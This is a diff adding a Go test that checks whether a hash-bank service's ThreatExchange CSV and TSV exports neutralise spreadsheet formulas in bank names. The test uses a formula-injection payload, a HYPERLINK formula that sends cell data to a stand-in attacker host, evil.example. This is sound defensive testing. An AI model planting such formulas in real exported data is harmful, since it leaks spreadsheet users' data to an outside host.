@@ -249,6 +249,16 @@ func TestListRoundTrip(t *testing.T) {
 				t.Errorf("%s: left out %q, want %q (%+v)", format, got, left, st)
 			}
 		}
+		// A bank's name is a cell of every row of a ThreatExchange file:
+		// one a spreadsheet would run as a formula is quoted.
+		formula := newBank(t, w, `=HYPERLINK("http://evil.example/?x="&A1,"click")`)
+		w.Must(t, 201, "POST", "/api/v1/hashmatch/banks/"+formula+"/versions", w.Analyst, hashmatch.NewVersion{Adds: rich[:1]})
+		for _, format := range []string{hashmatch.FormatTECSV, hashmatch.FormatTETSV} {
+			lines := strings.Split(string(exportList(t, w, formula, format)), "\n")
+			if len(lines) < 2 || !strings.HasPrefix(lines[1], `"'=HYPERLINK(`) && !strings.HasPrefix(lines[1], `'=HYPERLINK(`) {
+				t.Errorf("%s: a bank named as a formula exports as %q", format, lines)
+			}
+		}
 		// Only the owner's analysts export a bank's hashes; bad formats
 		// and versions are refused.
 		for _, bad := range []struct {
